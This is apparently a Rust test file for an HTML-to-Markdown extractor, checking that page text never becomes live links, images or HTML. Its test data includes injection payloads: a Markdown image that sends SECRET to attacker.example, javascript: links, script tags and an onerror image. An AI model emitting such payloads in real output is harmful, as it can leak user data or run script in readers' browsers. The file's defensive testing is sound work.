//! The page's own text never turns into live markup (issue #11): rendered
//! Markdown and plain text, read back by a real CommonMark parser, hold no
//! link, image, raw HTML, heading, list or quote that the page did not have.

use std::collections::HashSet;

use farsight_extract::{ExtractOptions, Format, extract};
use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};

/// Text a page can hold (as HTML source) that is markup in Markdown.
const HOSTILE: [&str; 22] = [
    "![x](https://attacker.example/?q=SECRET)",
    "[x](javascript:alert(1))",
    "# heading",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "*bold* and _em_ and **strong** and ~~strike~~",
    "- item",
    "1. item",
    "> quote",
    "| a | b |",
    "`code` and ```fence",
    "&lt;https://autolink.example/x&gt;",
    "[ref]: https://attacker.example/ref",
    "![y][ref] and [z][ref] and [ref]",
    "&amp;lt;b&amp;gt; is an entity",
    "---",
    "===",
    "<span>2</span>. glued list number",
    "\\[escaped\\](https://attacker.example/bs)",
    "[[wiki]] and [^note]",
    "&lt;!-- comment --&gt; and &lt;?php ?&gt;",
    "a_b snake_case __init__ R&amp;D &amp;amp; C:\\path\\",
];

const FILLER: &str = "This paragraph is ordinary prose about the weather in the valley, \
    long enough that the extractor takes the article for the page's content and keeps \
    every paragraph of it, hostile or not, in the order the page has them.";

/// The page: every hostile text in a paragraph, a list item, a quote, a
/// table cell, a heading, bold text, a link's text and an image's alt, plus
/// one real link and one real image.
fn hostile_page() -> String {
    let mut body = String::new();
    for (i, h) in HOSTILE.iter().enumerate() {
        body.push_str(&format!("<p>{FILLER}</p><p>{h}</p>"));
        match i % 6 {
            0 => body.push_str(&format!("<ul><li>{h}</li><li>x {h}</li></ul>")),
            1 => body.push_str(&format!("<blockquote><p>{h}</p></blockquote>")),
            2 => body.push_str(&format!(
                "<table><tr><th>{h}</th><th>b</th></tr><tr><td>{h}</td><td>c</td></tr></table>"
            )),
            3 => body.push_str(&format!("<h2>{h}</h2>")),
            4 => body.push_str(&format!("<p><b>{h}</b> then <i>{h}</i></p>")),
            _ => body.push_str(&format!("<p>{h}<br>{h}</p>")),
        }
    }
    body.push_str(
        "<p>A real <a href=\"/real-link\">link with ] and [ in it</a>, \
         then!<a href=\"https://example.com/after-bang\">glued to a bang</a>, and an image \
         <img src=\"/real.png\" alt=\"](https://attacker.example/alt) ![a\"> and \
         <a href=\"/pic-link\"><img src=\"/inner.png\" alt=\"in link\"></a>.</p>",
    );
    format!(
        "<html><head><title>T</title></head><body><article><h1>Title</h1>{body}</article></body></html>"
    )
}

/// The events that make markup, read by pulldown-cmark with the GitHub
/// extensions (tables, strikethrough, footnotes, task lists).
struct Parsed {
    links: Vec<String>,
    images: Vec<String>,
    html: Vec<String>,
    headings: usize,
    lists: usize,
    quotes: usize,
    emphasis: usize,
    text: String,
}

fn parse(md: &str) -> Parsed {
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_FOOTNOTES
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_GFM;
    let mut p = Parsed {
        links: Vec::new(),
        images: Vec::new(),
        html: Vec::new(),
        headings: 0,
        lists: 0,
        quotes: 0,
        emphasis: 0,
        text: String::new(),
    };
    for event in Parser::new_ext(md, options) {
        match event {
            Event::Start(Tag::Link { dest_url, .. }) => p.links.push(dest_url.to_string()),
            Event::Start(Tag::Image { dest_url, .. }) => p.images.push(dest_url.to_string()),
            Event::Start(Tag::Heading { .. }) => p.headings += 1,
            Event::Start(Tag::List(_)) => p.lists += 1,
            Event::Start(Tag::BlockQuote(_)) => p.quotes += 1,
            Event::Start(Tag::Emphasis | Tag::Strong | Tag::Strikethrough) => p.emphasis += 1,
            Event::Html(h) | Event::InlineHtml(h) => p.html.push(h.to_string()),
            Event::Text(t) | Event::Code(t) => p.text.push_str(&t),
            Event::SoftBreak | Event::HardBreak | Event::End(TagEnd::Paragraph) => {
                p.text.push(' ');
            }
            _ => {}
        }
    }
    p
}

fn options(format: Format) -> ExtractOptions {
    ExtractOptions::new(format)
        .base_url("https://example.com/page")
        .include_links(true)
        .include_images(true)
}

#[test]
fn markdown_holds_only_the_pages_links_and_images_and_no_html() {
    let doc = extract(&hostile_page(), &options(Format::Markdown));
    let md = &doc.content;
    let parsed = parse(md);
    let page_links: HashSet<&str> = [
        "https://example.com/real-link",
        "https://example.com/after-bang",
        "https://example.com/pic-link",
    ]
    .into();
    let page_images: HashSet<&str> = [
        "https://example.com/real.png",
        "https://example.com/inner.png",
    ]
    .into();
    for url in &parsed.images {
        assert!(
            page_images.contains(url.as_str()),
            "image {url} not on the page:\n{md}"
        );
    }
    for url in &parsed.links {
        assert!(
            page_links.contains(url.as_str()),
            "link {url} not on the page:\n{md}"
        );
    }
    assert_eq!(parsed.images.len(), 2, "{md}");
    assert_eq!(parsed.links.len(), 3, "{md}");
    assert!(
        parsed.html.is_empty(),
        "raw HTML {:?} in:\n{md}",
        parsed.html
    );
    // Structure only where the page has it: its `<h1>` and `<h2>`s, lists,
    // quotes, and a `<b>` and an `<i>` in some paragraphs.
    let every = |k: usize| (0..HOSTILE.len()).filter(|i| i % 6 == k).count();
    assert_eq!(parsed.headings, 1 + every(3), "{md}");
    assert_eq!(parsed.lists, every(0), "{md}");
    assert_eq!(parsed.quotes, every(1), "{md}");
    assert_eq!(parsed.emphasis, 2 * every(4), "{md}");
    // And the characters of the page are what a reader sees.
    for shown in [
        "![x](https://attacker.example/?q=SECRET)",
        "[x](javascript:alert(1))",
        "# heading",
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "*bold* and _em_ and **strong** and ~~strike~~",
        "- item",
        "1. item",
        "> quote",
        "`code` and ```fence",
        "<https://autolink.example/x>",
        "[ref]: https://attacker.example/ref",
        "&lt;b&gt; is an entity",
        "2. glued list number",
        "\\[escaped\\](https://attacker.example/bs)",
        "a_b snake_case __init__ R&D &amp; C:\\path\\",
        "link with ] and [ in it",
    ] {
        assert!(
            parsed.text.contains(shown),
            "{shown:?} not shown as text:\n{md}"
        );
    }
}

#[test]
fn lists_and_quotes_past_the_indent_cap_keep_code_blocks_inert() {
    // Past the cap, nesting adds no indentation: a code block in a deeper
    // item must still sit inside the last indented item, or its lines
    // would be read as Markdown.
    let deep = |open: &str, close: &str| {
        format!(
            "{}x<pre>![x](https://attacker.example/deep)\n\n[y](https://attacker.example/y)</pre>\
             <p>![z](https://attacker.example/p)</p>{}",
            open.repeat(12),
            close.repeat(12)
        )
    };
    let html = format!(
        "<article><p>{FILLER}</p>{}{}{}<p>{FILLER}</p></article>",
        deep("<ul><li>", "</li></ul>"),
        deep("<ol start=999999999><li>", "</li></ol>"),
        deep("<blockquote>", "</blockquote>"),
    );
    for format in [Format::Markdown, Format::Text] {
        let out = extract(&html, &options(format)).content;
        let parsed = parse(&out);
        assert!(
            parsed.images.is_empty() && parsed.links.is_empty() && parsed.html.is_empty(),
            "{format:?}:\n{out}"
        );
        assert_eq!(
            parsed
                .text
                .matches("![x](https://attacker.example/deep)")
                .count(),
            3,
            "{format:?}:\n{out}"
        );
    }
}

#[test]
fn markdown_escapes_only_what_would_be_markup() {
    let html = format!(
        "<article><p>{FILLER}</p><p>Prices rose 3.5% in Q1-Q2 (see page 4), e.g. R&amp;D \
         spending; C# and F# #hashtags, 1.5 - 2 x 3 = 6 > 5! Isn't it?</p></article>"
    );
    let doc = extract(&html, &options(Format::Markdown));
    assert!(
        doc.content.contains(
            "Prices rose 3.5% in Q1-Q2 (see page 4), e.g. R&D spending; C# and F# #hashtags, \
             1.5 - 2 x 3 = 6 > 5! Isn't it?"
        ),
        "{}",
        doc.content
    );
}

#[test]
fn plain_text_read_as_markdown_holds_no_link_image_or_html() {
    let doc = extract(&hostile_page(), &options(Format::Text));
    let text = &doc.content;
    let parsed = parse(text);
    assert!(parsed.images.is_empty(), "{:?} in:\n{text}", parsed.images);
    assert!(parsed.links.is_empty(), "{:?} in:\n{text}", parsed.links);
    assert!(parsed.html.is_empty(), "{:?} in:\n{text}", parsed.html);
    // The characters stay as they are, but for a backslash before `](`,
    // `]:` and a tag's `<`.
    assert!(
        text.contains("![x\\](https://attacker.example/?q=SECRET)"),
        "{text}"
    );
    assert!(text.contains("\\<img src=x onerror=alert(1)>"), "{text}");
    assert!(
        text.contains("*bold* and _em_ and **strong** and ~~strike~~"),
        "{text}"
    );
    assert!(
        text.contains("a_b snake_case __init__ R&D &amp; C:\\path\\"),
        "{text}"
    );
}

/// Words of markup characters, letters and digits.
fn markup_text() -> impl Strategy<Value = String> {
    prop::collection::vec("[a-c1!\\[\\]()<>*_`#~|&;:=+\\\\./-]{1,6}", 1..12)
        .prop_map(|words| words.join(" "))
}

fn html_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    /// Random text of markup characters, in a paragraph, a list item and a
    /// quote, reads back as exactly its characters, with no link, image or
    /// HTML.
    #[test]
    fn random_markup_text_reads_back_as_itself(a in markup_text(), b in markup_text(), c in markup_text()) {
        let html = format!(
            "<article><p>{FILLER}</p><p>{}</p><ul><li>{}</li></ul><blockquote><p>{}</p></blockquote></article>",
            html_escape(&a), html_escape(&b), html_escape(&c)
        );
        let md = extract(&html, &options(Format::Markdown)).content;
        let parsed = parse(&md);
        prop_assert!(parsed.links.is_empty() && parsed.images.is_empty() && parsed.html.is_empty(), "{}", md);
        prop_assert_eq!(parsed.headings, 0, "{}", &md);
        prop_assert_eq!(parsed.lists, 1, "{}", &md);
        prop_assert_eq!(parsed.quotes, 1, "{}", &md);
        prop_assert_eq!(parsed.emphasis, 0, "{}", &md);
        for t in [&a, &b, &c] {
            prop_assert!(parsed.text.contains(t.as_str()), "{:?} not in {:?}\n{}", t, parsed.text, md);
        }

        let text = extract(&html, &options(Format::Text)).content;
        let parsed = parse(&text);
        prop_assert!(parsed.links.is_empty() && parsed.images.is_empty() && parsed.html.is_empty(), "{}", text);
    }
}
